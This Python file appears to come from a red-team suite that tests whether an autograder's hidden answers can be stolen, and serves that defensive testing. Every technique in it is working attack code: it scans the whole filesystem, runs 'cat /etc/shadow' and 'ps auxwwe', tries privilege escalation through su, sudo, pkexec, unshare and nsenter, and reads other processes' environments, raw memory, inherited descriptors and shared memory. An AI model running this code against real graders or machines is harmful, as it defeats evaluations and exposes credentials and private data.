"""Reading answers in files, in other processes, in memory and through descriptors: attacks 4, 5 and 18."""

from grader.redteam.technique import Technique
from grader.redteam.techniques.hunting import hunts

TECHNIQUES: tuple[Technique, ...] = (
    hunts(
        "read every file from the root on",
        "attacks 4",
        """
def hunt(key):
    large = {"usr", "proc", "sys", "site", "python", "lib", "bin", "sbin", "lib64", "dev"}
    for name in sorted(os.listdir("/"), key=lambda name: name in large):
        keep_tree("/" + name)
""",
    ),
    hunts(
        "read the places where graders keep their answers",
        "attacks 4",
        """
PLACES = ["..", "../..", "tests", "solutions", "/autograder", "/grade", "/solutions", "/course", "/work", "/root", "/tmp",
          "/srv", "/opt", "/mnt", "/var/lib", "/var/tmp", "/run", "/home", "/datasets/..", "/own", "/own/grader/..", "/etc"]

def hunt(key):
    for place in PLACES:
        keep_tree(place)
""",
    ),
    hunts(
        "read the course's own packages",
        "attacks 4",
        """
def hunt(key):
    for folder in [*sys.path, "/own", "/site"]:
        for name in os.listdir(folder) if os.path.isdir(folder) else ():
            if re.search("grader|course|solution|answer|secret|test", name):
                keep_tree(os.path.join(folder, name))
                keep_file(os.path.join(folder, name))
""",
    ),
    hunts(
        "climb out through /proc/self/root, cwd and open folders",
        "attacks 4",
        """
def hunt(key):
    for way in ("/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../..", "/proc/thread-self/root/.."):
        for name in ("work", "root", "tmp", "home", "srv", "var", "mnt"):
            keep_tree(os.path.join(way, name))
    for number in range(64):
        keep_tree(f"/proc/self/fd/{number}/..")
""",
    ),
    hunts(
        "look the files up with programs of the system",
        "attacks 4",
        """
import subprocess

def hunt(key):
    for words in (["sh", "-c", "cat ~/* ~/.[a-z]* /tmp/* /tmp/.[a-z]* ../* ../../* /root/* /home/*/* 2>/dev/null"],
                  ["sh", "-c", "env; set; mount; ps auxwwe; id; cat /etc/passwd /etc/shadow"],
                  ["find", "/", "-maxdepth", "3", "-name", "*solution*"]):
        try:
            keep(subprocess.run(words, capture_output=True, timeout=1).stdout)
        except (OSError, subprocess.TimeoutExpired):
            pass
""",
    ),
    hunts(
        "become root with set-user-id programs",
        "attacks 4",
        """
import subprocess

def hunt(key):
    for words in (["su", "-c", "cat /root/.*"], ["sudo", "-n", "cat", "/root/.grader"], ["pkexec", "id"], ["newgrp", "root"],
                  ["mount", "--bind", "/", "/tmp"], ["unshare", "-Ur", "cat", "/etc/shadow"], ["nsenter", "-t", "1", "-a", "id"],
                  ["bwrap", "--dev-bind", "/", "/", "cat", "/root/.grader"]):
        try:
            done = subprocess.run(words, capture_output=True, timeout=0.5, stdin=subprocess.DEVNULL)
            keep(done.stdout + done.stderr)
            if b"uid=0" in done.stdout:
                print("root")
        except (OSError, subprocess.TimeoutExpired):
            pass
    for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):
        try:
            call()
        except OSError:
            pass
    keep_tree("/root")
    keep_file("/etc/shadow")
""",
    ),
    hunts(
        "read the arguments and the environment of this process",
        "attacks 5",
        """
import ctypes

def hunt(key):
    keep_all([sys.argv, sys.orig_argv, dict(os.environ), sys.flags, sys._xoptions])
    for name in ("cmdline", "environ", "maps", "status", "mountinfo", "mounts", "cgroup", "auxv", "stat", "comm", "limits"):
        keep_file("/proc/self/" + name)
    ctypes.CDLL(None).getenv.restype = ctypes.c_char_p
    keep(ctypes.CDLL(None).getenv(("GRADER_REDTEAM_" + "SECRET").encode()) or b"")
""",
    ),
    hunts(
        "read the arguments, environment and files of all other processes",
        "attacks 5",
        """
def hunt(key):
    for number in [*range(1, 400), os.getppid()]:
        for name in ("cmdline", "environ", "maps", "status", "stack", "mountinfo"):
            keep_file(f"/proc/{number}/{name}")
        if os.path.isdir(f"/proc/{number}/fd"):
            for name in ("root/tmp", "cwd", "fd"):
                keep_tree(f"/proc/{number}/{name}")
""",
    ),
    hunts(
        "search this process's own memory",
        "attacks 5",
        """
import ctypes

def hunt(key):
    with open("/proc/self/maps") as maps:
        regions = [line.split()[:2] for line in maps if "rw" in line.split()[1]]
    for region, _rights in reversed(regions):
        start, stop = (int(end, 16) for end in region.split("-"))
        if time.monotonic() > UNTIL[0]:
            break
        keep(ctypes.string_at(start, min(stop - start, 2**25)))
""",
    ),
    hunts(
        "search memory near small objects without /proc",
        "attacks 5",
        """
import ctypes

def hunt(key):
    page = 4096
    for thing in ("", 0, key, hunt, sys, os.environ, (), {}, frozenset()):
        place = id(thing) // page * page
        keep(ctypes.string_at(place, page))
""",
    ),
    hunts(
        "read every inherited descriptor",
        "attacks 18",
        """
import socket

def hunt(key):
    for number in range(3, 256):
        for take in (lambda: os.pread(number, 2**20, 0), lambda: socket.socket(fileno=os.dup(number)).recv(
                2**20, socket.MSG_PEEK | socket.MSG_DONTWAIT)):
            try:
                keep(take())
            except OSError:
                pass
        keep_file(f"/proc/self/fd/{number}")
""",
    ),
    hunts(
        "receive descriptors over inherited sockets",
        "attacks 18",
        """
import socket

def hunt(key):
    for number in range(3, 256):
        try:
            end = socket.socket(fileno=os.dup(number))
            end.settimeout(0)
            data, given, _flags, _where = socket.recv_fds(end, 2**16, 8, socket.MSG_DONTWAIT | socket.MSG_PEEK)
            keep(data)
            for one in given:
                keep(os.pread(one, 2**20, 0))
        except OSError:
            pass
""",
    ),
    hunts(
        "read shared memory of the machine",
        "attacks 18",
        """
import glob
from multiprocessing import shared_memory

def hunt(key):
    keep_tree("/dev/shm")
    keep_tree("/dev/mqueue")
    for path in glob.glob("/dev/shm/*"):
        keep(bytes(shared_memory.SharedMemory(os.path.basename(path)).buf))
    for kind in ("shm", "sem", "msg"):
        keep_file("/proc/sysvipc/" + kind)
""",
    ),
)
